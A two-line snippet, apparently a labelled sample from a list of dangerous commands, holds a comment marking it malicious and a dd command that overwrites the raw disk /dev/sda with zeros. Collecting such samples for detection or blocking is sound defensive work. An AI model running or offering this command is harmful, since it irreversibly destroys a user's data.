# malicious: overwrites the disk
dd if=/dev/zero of=/dev/sda bs=1M
